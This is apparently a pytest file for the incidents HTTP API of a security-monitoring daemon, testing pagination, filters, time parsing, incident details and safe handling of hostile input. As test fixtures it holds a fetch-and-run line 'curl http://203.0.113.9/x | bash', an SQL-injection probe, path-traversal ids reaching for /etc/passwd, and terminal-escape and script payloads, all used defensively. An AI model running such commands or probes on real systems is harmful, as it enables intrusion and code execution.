"""Incidents: pages and details, over the real store."""

from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import msgspec
import pytest
from aiohttp.test_utils import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from daemon.api.errors import ApiError
from daemon.api.incidents import Cursor, load_page, parse_before, parse_instant
from daemon.api.requests import IncidentsQuery
from daemon.model import Gap, Incident, IncidentStatus, Severity
from daemon.state import Commit
from daemon.state.store import SqliteStore
from tests.api.conftest import Daemon
from tests.doubles.analyst import SIMILAR
from tests.doubles.values import T0, a_rule, an_alert, an_incident

Serve = Callable[..., Awaitable[TestClient[Any, Any]]]


async def walk(client: TestClient[Any, Any], **parameters: Any) -> list[list[str]]:
    """The ids on every page, following `next` to the end."""
    pages: list[list[str]] = []
    following: str | None = ""
    while following is not None:
        query = {**parameters, **({"before": following} if following else {})}
        response = await client.get("/api/v1/incidents", params=query)
        assert response.status == 200, await response.text()
        page = await response.json()
        pages.append([incident["id"] for incident in page["incidents"]])
        following = page["next"]
        assert len(pages) < 100, "the cursor does not move"
    return pages


async def test_no_incidents_are_an_empty_last_page(client: TestClient[Any, Any]) -> None:
    assert await (await client.get("/api/v1/incidents")).json() == {"incidents": [], "next": None}


async def test_incidents_come_newest_first(client: TestClient[Any, Any], world: Daemon) -> None:
    for number in (2, 3, 1):
        await world.store_incident(an_incident(number))
    assert await walk(client) == [[an_incident(n).id for n in (3, 2, 1)]]


async def test_pages_lose_and_repeat_nothing(client: TestClient[Any, Any], world: Daemon) -> None:
    for number in range(1, 8):
        await world.store_incident(an_incident(number))
    newest_first = [an_incident(n).id for n in range(7, 0, -1)]
    for limit in (1, 2, 3, 6, 7, 8, 200):
        pages = await walk(client, limit=limit)
        assert [one for page in pages for one in page] == newest_first
        assert all(len(page) == limit for page in pages[:-1])


@given(times=st.lists(st.integers(1, 4), max_size=25), limit=st.integers(1, 6))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
async def test_incidents_of_one_instant_survive_the_edge_of_a_page(
    tmp_path_factory: pytest.TempPathFactory, times: list[int], limit: int
) -> None:
    store = SqliteStore(tmp_path_factory.mktemp("state"), ballast_bytes=0)
    store.open()
    stored = [an_incident(n, last_at=T0 + at) for n, at in enumerate(times)]
    await store.commit(Commit(at=T0, incidents=tuple(stored)))
    shown: list[Incident] = []
    cursor: Cursor | None = None
    while True:
        page, following = await load_page(store, IncidentsQuery(limit=limit), cursor)
        shown += page
        if following is None:
            break
        assert len(page) == limit
        cursor = parse_before(str(following))
    store.close()
    assert [one.id for one in shown] == [one.id for one in sorted(stored, key=lambda i: (-i.last_at, i.id))]


async def test_filters_pass_through(client: TestClient[Any, Any], world: Daemon) -> None:
    other = a_rule(id="rule-2", title="Password file read", severity=Severity.low)
    await world.store_incident(an_incident(1))
    await world.store_incident(
        an_incident(2, rule=other, severity=Severity.low, status=IncidentStatus.closed, entity="User=mallory")
    )
    first, second = an_incident(1).id, an_incident(2).id
    for parameters, found in (
        ({"severity": "medium"}, [first]),
        ({"severity": "low"}, [second, first]),
        ({"status": "closed"}, [second]),
        ({"status": "quiet"}, []),
        ({"rule": "rule-2"}, [second]),
        ({"q": "MALLORY password"}, [second]),
        ({"q": "mallory shell"}, []),
        ({"q": "%"}, []),
        ({"q": "' OR 1=1 --"}, []),
        ({"before": str(T0 + 2)}, [first]),
        ({"before": "2026-11-21T11:20:02Z"}, [first]),
        ({"before": "2026-11-21T12:20:02+01:00"}, [first]),
        ({"status": "", "rule": "", "q": "", "before": ""}, [second, first]),
    ):
        assert await walk(client, **parameters) == [found], parameters


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("limit=0", "limit: a whole number from 1 to 200"),
        ("limit=201", "limit: a whole number from 1 to 200"),
        ("limit=ten", "limit: a whole number from 1 to 200"),
        ("limit=", "limit: a whole number from 1 to 200"),
        ("limit=1&limit=2", "limit: given once"),
        ("limits=1", "limits: one of limit, before, severity, status, rule, q; did you mean limit?"),
        ("severity=urgent", "severity: the least severity: one of informational, low, medium, high, critical"),
        ("severity=3", "severity: the least severity: one of informational, low, medium, high, critical"),
        ("status=resolved", "status: one of open, quiet, closed (or left out)"),
        ("before=yesterday", "before: the next of an earlier page, a time in RFC 3339, or seconds since the epoch"),
        ("before=1e999~1", "before: the next of an earlier page"),
        ("before=1~99999", "before: the next of an earlier page"),
        ("before=nan", "before: the next of an earlier page"),
        ("q=" + "x" * 201, "q: words to find, at most 200 characters"),
        ("q=a%00b", "q: text without control characters"),
        ("q=%1b[31m", "q: text without control characters"),
        ("rule=%9b", "rule: "),
    ],
)
async def test_a_bad_parameter_says_what_was_expected(client: TestClient[Any, Any], query: str, expected: str) -> None:
    response = await client.get(f"/api/v1/incidents?{query}")
    if query == "rule=%9b":  # no UTF-8: it becomes a replacement character, which no rule has
        assert response.status == 200
        return
    error = (await response.json())["error"]
    assert (response.status, error["code"]) == (400, "bad_parameter")
    assert error["expected"].startswith(expected)


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("0", 0.0),
        ("1795260000.5", 1_795_260_000.5),
        ("2026-11-21T11:20:00Z", T0),
        ("2026-11-21T11:20:00", T0),
        ("2026-11-21T13:20:00+02:00", T0),
        ("2026-11-21T13:20:00 02:00", T0),
        ("2026-11-21", T0 - 11 * 3600 - 1200),
        ("0001-01-01T00:00:00+14:00", None),
        ("-5", None),
        ("inf", None),
        ("1" * 40, None),
        ("tomorrow", None),
        ("2026-W47-6", None),
        ("2026-13-01", None),
        ("1969-12-31", None),
        ("2026-11-21T11:20:00\n", None),
        ("9999-12-31T23:59:59-14:00", 253_402_351_199.0 - 1200 + 1200),
        ("", None),
    ],
)
def test_times_are_read_in_two_ways(text: str, at: float | None) -> None:
    assert parse_instant(text) == at


@given(st.text(max_size=80))
def test_any_before_is_a_cursor_or_a_bad_parameter(text: str) -> None:
    with suppress(ApiError):
        cursor = parse_before(text)
        assert cursor is None or 0 <= cursor.skip <= 9999


@given(st.floats(min_value=0, max_value=1e12), st.integers(0, 9999))
def test_a_cursor_comes_back_as_it_went(at: float, skip: int) -> None:
    cursor = Cursor(at, skip)
    assert parse_before(str(cursor)) == cursor


async def test_one_incident_comes_with_all_that_is_known_of_it(client: TestClient[Any, Any], world: Daemon) -> None:
    incident = an_incident(1)
    await world.store_incident(incident)
    first = (await world.store.alerts(incident.id))[0]
    richer = msgspec.structs.replace(first, similar=(SIMILAR,), gaps=(Gap("explanation", "timeout", "180 s"),))
    delivery = await world.store.due("slack", T0 + 1)
    assert delivery is not None
    await world.store.begin(delivery.id, T0 + 1)
    await world.store.sent(delivery.id, T0 + 1)
    await world.store.revise(richer, final=True, now=T0 + 9, webhooks=["slack"])

    detail = await (await client.get(f"/api/v1/incidents/{incident.id}")).json()
    assert detail["incident"]["id"] == incident.id
    assert detail["incident"]["severity"] == "high"
    assert "path" not in detail["incident"]["rule"]
    assert [alert["version"] for alert in detail["alerts"]] == [1, 2]
    assert detail["alerts"][0]["similar"] == []
    assert detail["similar"] == detail["alerts"][1]["similar"]
    assert detail["similar"][0]["outcome"] == "a deployment script, fixed"
    assert detail["evidence"][0]["text"] == "curl http://203.0.113.9/x | bash"
    assert detail["explanation"]["origin"] == "rules"
    assert detail["gaps"] == [{"part": "explanation", "why": "timeout", "detail": "180 s"}]
    assert len(detail["anomalies"]) == 1
    went = {(one["webhook"], one["alert_version"]): (one["state"], one["attempts"]) for one in detail["deliveries"]}
    assert went == {("slack", 1): ("sent", 1), ("siem", 1): ("due", 0), ("slack", 2): ("due", 0)}


async def test_an_incident_that_was_never_told_has_no_alert(client: TestClient[Any, Any], world: Daemon) -> None:
    await world.store_incident(an_incident(1), told=False)
    detail = await (await client.get(f"/api/v1/incidents/{an_incident(1).id}")).json()
    assert (detail["alerts"], detail["explanation"], detail["deliveries"]) == ([], None, [])


async def test_hostile_log_text_arrives_escaped(client: TestClient[Any, Any], world: Daemon) -> None:
    hostile = "User=\x1b]0;pwned\x07\x9b31m\u202e<script>"
    await world.store_incident(an_incident(1, entity=hostile, because=hostile))
    response = await client.get("/api/v1/incidents")
    raw = await response.text()
    assert (await response.json())["incidents"][0]["entity"] == hostile
    assert raw.isprintable()
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "incident_id", ["nothing", "%00", "%ff", "a%2f..%2fb", "x" * 300, "..%2f..%2fetc%2fpasswd", "%e2%80%ae", "'--"]
)
async def test_no_such_incident(client: TestClient[Any, Any], filled: Daemon, incident_id: str) -> None:
    response = await client.get(f"/api/v1/incidents/{incident_id}")
    error = (await response.json())["error"]
    assert response.status == 404
    assert error["code"] == "not_found"


async def test_the_largest_page_is_two_hundred(client: TestClient[Any, Any], world: Daemon) -> None:
    stored = tuple(an_incident(number, anomalies=()) for number in range(201))
    await world.store.commit(Commit(at=T0, incidents=stored))
    pages = await walk(client, limit=200)
    assert [len(page) for page in pages] == [200, 1]


def test_the_store_under_these_tests_is_the_real_one(world: Daemon, tmp_path: Path) -> None:
    assert isinstance(world.store, SqliteStore)
    assert any(tmp_path.iterdir())
    assert an_alert().incident_id == an_incident().id
